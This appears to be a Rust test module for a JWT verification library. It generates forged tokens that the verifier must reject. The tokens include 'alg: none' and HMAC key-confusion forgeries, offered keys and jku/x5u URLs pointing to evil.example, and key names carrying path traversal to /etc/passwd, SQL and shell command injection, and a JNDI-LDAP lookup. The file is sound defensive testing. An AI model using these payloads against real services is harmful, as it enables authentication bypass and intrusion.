//! Headers that lie, offer keys, or name them.

use onepane_auth::Reason::{
    Algorithm, Critical, Duplicate, Header, Json, Signature, TooDeep, Type, UnknownKey,
};

use super::{Attack, attack};
use crate::forge::{CLAIMS, HEADER, base64url, sign_as, with_header};
use crate::keys::{ED25519, P256, P384, SIGNER, STRANGER, TestKey, hmac};

/// Algorithms other than the policy's, each signed as well as it can be.
pub(super) fn algorithms() -> Vec<Attack> {
    let header = |name: &str| format!(r#"{{"alg":"{name}","typ":"JWT","kid":"k1"}}"#);
    let mut table = Vec::new();
    for name in ["none", "None", "NONE", "nOnE", "", "null", " none", "none "] {
        let signed = format!("{}.{}", base64url(header(name)), base64url(CLAIMS));
        table.push(attack(format!("algorithm {name:?}, no signature"), format!("{signed}."), Algorithm));
        let token = with_header(&header(name));
        table.push(attack(format!("algorithm {name:?}, signature of the signer"), token, Algorithm));
    }
    for algorithm in ["HS256", "HS384", "HS512"] {
        for (index, secret) in SIGNER.as_shared_secrets().iter().enumerate() {
            let signed = format!("{}.{}", base64url(header(algorithm)), base64url(CLAIMS));
            let token = format!("{signed}.{}", base64url(hmac(algorithm, secret, signed.as_bytes())));
            table.push(attack(
                format!("{algorithm} with the public key as secret, form {index}"),
                token,
                Algorithm,
            ));
        }
    }
    let others: [(&str, &TestKey); 8] = [
        ("RS384", &SIGNER),
        ("RS512", &SIGNER),
        ("PS256", &SIGNER),
        ("PS384", &SIGNER),
        ("PS512", &SIGNER),
        ("ES256", &P256),
        ("ES384", &P384),
        ("EdDSA", &ED25519),
    ];
    for (algorithm, key) in others {
        let token = sign_as(algorithm, &header(algorithm), CLAIMS.as_bytes(), key);
        table.push(attack(format!("{algorithm}, well signed"), token, Algorithm));
    }
    let misspelled = [
        "rs256",
        "Rs256",
        "RS256 ",
        " RS256",
        r"RS256\u0000",
        r"RS256\n",
        "RS-256",
        "RS1",
        "RS2566",
        "ES256K",
        "Ed25519",
        "RSA-OAEP",
        "RSA1_5",
        "dir",
        "A256GCM",
        "SHA256withRSA",
        "\u{ff32}\u{ff33}256",
        "R\u{405}256",
        "RS256\u{200b}",
        "../RS256",
        "RS256,none",
        "*",
    ];
    for name in misspelled {
        table.push(attack(format!("algorithm {name:?}"), with_header(&header(name)), Algorithm));
    }
    table
}

/// Headers of the wrong shape, well signed.
pub(super) fn members() -> Vec<Attack> {
    let nested = format!(r#"{{"alg":"RS256","x":{}{}}}"#, "[".repeat(40), "]".repeat(40));
    let rows: Vec<(&str, String, onepane_auth::Reason)> = [
        ("no algorithm", r#"{"typ":"JWT"}"#, Header),
        ("algorithm in capitals", r#"{"ALG":"RS256"}"#, Header),
        ("algorithm as number", r#"{"alg":256}"#, Header),
        ("algorithm as null", r#"{"alg":null}"#, Header),
        ("algorithm as array", r#"{"alg":["RS256"]}"#, Header),
        ("algorithm as object", r#"{"alg":{"name":"RS256"}}"#, Header),
        ("algorithm as boolean", r#"{"alg":true}"#, Header),
        ("key name as number", r#"{"alg":"RS256","kid":1}"#, Header),
        ("key name as null", r#"{"alg":"RS256","kid":null}"#, Header),
        ("key name as array", r#"{"alg":"RS256","kid":["k1"]}"#, Header),
        ("key name as object", r#"{"alg":"RS256","kid":{"$ne":""}}"#, Header),
        ("type as number", r#"{"alg":"RS256","typ":1}"#, Header),
        ("type of an encrypted token", r#"{"alg":"RS256","typ":"JWE"}"#, Type),
        ("type of an access token", r#"{"alg":"RS256","typ":"at+jwt"}"#, Type),
        ("type of a logout token", r#"{"alg":"RS256","typ":"logout+jwt"}"#, Type),
        ("type of a proof of possession", r#"{"alg":"RS256","typ":"dpop+jwt"}"#, Type),
        ("empty type", r#"{"alg":"RS256","typ":""}"#, Type),
        ("type with a blank", r#"{"alg":"RS256","typ":"JWT "}"#, Type),
        ("type twice prefixed", r#"{"alg":"RS256","typ":"application/application/JWT"}"#, Type),
        ("critical claim", r#"{"alg":"RS256","crit":["exp"],"exp":1}"#, Critical),
        (
            "critical extension unknown",
            r#"{"alg":"RS256","crit":["urn:example:x"],"urn:example:x":1}"#,
            Critical,
        ),
        ("nothing critical", r#"{"alg":"RS256","crit":[]}"#, Critical),
        ("critical as text", r#"{"alg":"RS256","crit":"exp"}"#, Critical),
        ("critical as null", r#"{"alg":"RS256","crit":null}"#, Critical),
        ("unencoded claims, critical", r#"{"alg":"RS256","crit":["b64"],"b64":false}"#, Critical),
        ("unencoded claims", r#"{"alg":"RS256","b64":false}"#, Critical),
        ("unencoded claims as text", r#"{"alg":"RS256","b64":"false"}"#, Critical),
        ("algorithm twice, none first", r#"{"alg":"none","alg":"RS256"}"#, Duplicate),
        ("algorithm twice, none last", r#"{"alg":"RS256","alg":"none"}"#, Duplicate),
        ("algorithm twice, once escaped", r#"{"alg":"RS256","\u0061lg":"none"}"#, Duplicate),
        ("key name twice", r#"{"alg":"RS256","kid":"k1","kid":"k2"}"#, Duplicate),
        ("a member of an offered key twice", r#"{"alg":"RS256","jwk":{"kty":"RSA","kty":"oct"}}"#, Duplicate),
        ("header as array", r#"["alg","RS256"]"#, Json),
        ("header as string", r#""RS256""#, Json),
        ("header as number", "1", Json),
        ("header as null", "null", Json),
        ("no header", "", Json),
        ("header not closed", r#"{"alg":"RS256""#, Json),
        ("header with something after it", r#"{"alg":"RS256"}{"alg":"none"}"#, Json),
        ("header with a trailing comma", r#"{"alg":"RS256",}"#, Json),
        ("header with a comment", r#"{"alg":"RS256"/**/}"#, Json),
        ("header in single quotes", "{'alg':'RS256'}", Json),
        ("header with a byte order mark", "\u{feff}{\"alg\":\"RS256\"}", Json),
        ("header in yaml", "alg: RS256", Json),
    ]
    .into_iter()
    .map(|(name, header, reason)| (name, header.to_owned(), reason))
    .chain([("header nested deeply", nested, TooDeep)])
    .collect();
    rows.into_iter().map(|(name, header, reason)| attack(name, with_header(&header), reason)).collect()
}

/// Keys that the token brings along. All are signed by a stranger, whose key is offered.
pub(super) fn offered_keys() -> Vec<Attack> {
    let jwk = STRANGER.jwk("k1");
    let strangers_kid = STRANGER.jwk("stranger");
    let members = [
        ("key in the header", format!(r#""kid":"k1","jwk":{jwk}"#), Signature),
        ("key in the header, no name", format!(r#""jwk":{jwk}"#), Signature),
        (
            "key in the header by its own name",
            format!(r#""kid":"stranger","jwk":{strangers_kid}"#),
            UnknownKey,
        ),
        ("key set in the header", format!(r#""kid":"k1","jwks":{{"keys":[{jwk}]}}"#), Signature),
        ("key set in the header as keys", format!(r#""kid":"k1","keys":[{jwk}]"#), Signature),
        ("key url", r#""kid":"k1","jku":"https://evil.example/keys.json""#.to_owned(), Signature),
        (
            "key url that looks like ours",
            r#""kid":"k1","jku":"https://c.botmaker.com@evil.example/k.json""#.to_owned(),
            Signature,
        ),
        ("key url of a file", r#""kid":"k1","jku":"file:///etc/passwd""#.to_owned(), Signature),
        (
            "key url by another name",
            r#""kid":"stranger","jku":"https://evil.example/keys.json""#.to_owned(),
            UnknownKey,
        ),
        ("certificate url", r#""kid":"k1","x5u":"https://evil.example/cert.pem""#.to_owned(), Signature),
        ("certificates", r#""kid":"k1","x5c":["MIIBevil"]"#.to_owned(), Signature),
        ("thumbprint", r#""kid":"k1","x5t":"evil","x5t#S256":"evil""#.to_owned(), Signature),
        (
            "key, key url and certificates at once",
            format!(
                r#""jwk":{jwk},"jku":"https://evil.example/k","x5u":"https://evil.example/c","x5c":["MIIB"]"#
            ),
            Signature,
        ),
    ];
    let row = |(name, members, reason): (&str, String, onepane_auth::Reason)| {
        let header = format!(r#"{{"alg":"RS256",{members}}}"#);
        attack(name, sign_as("RS256", &header, CLAIMS.as_bytes(), &STRANGER), reason)
    };
    members.into_iter().map(row).collect()
}

/// Names of keys that lead elsewhere. Signed by the signer, so that only the name is at fault.
pub(super) fn key_names() -> Vec<Attack> {
    let unknown = [
        "../../../../../../dev/null",
        "/dev/null",
        "..\\\\..\\\\windows\\\\win.ini",
        "k1/../k1",
        "./k1",
        "file:///etc/passwd",
        "https://evil.example/keys.json",
        "' OR '1'='1",
        "k1' OR 1=1 --",
        "x' UNION SELECT 'k1",
        "k1; DROP TABLE keys",
        "$(cat /etc/passwd)",
        "|id",
        "`id`",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "%00",
        "k1%00",
        r"k1\u0000",
        r"k1\n",
        "K1",
        " k1",
        "k1 ",
        "",
        "*",
        "0",
        "k",
        "k11",
        "\u{ff4b}1",
        "k\u{200b}1",
        "__proto__",
        "constructor",
    ];
    let mut table: Vec<_> = unknown
        .into_iter()
        .map(|kid| {
            let header = format!(r#"{{"alg":"RS256","kid":"{kid}"}}"#);
            attack(format!("key name {kid:?}"), with_header(&header), UnknownKey)
        })
        .collect();
    let long = format!(r#"{{"alg":"RS256","kid":"{}"}}"#, "k1".repeat(1000));
    table.push(attack("key name of two thousand letters", with_header(&long), UnknownKey));
    for kid in ["ec1", "ec2", "ed1"] {
        let header = format!(r#"{{"alg":"RS256","kid":"{kid}"}}"#);
        table.push(attack(format!("name of a key of another type, {kid}"), with_header(&header), UnknownKey));
    }
    let other_name = HEADER.replace("k1", "k2");
    table.push(attack("name of another key of the signer", with_header(&other_name), Signature));
    table
}
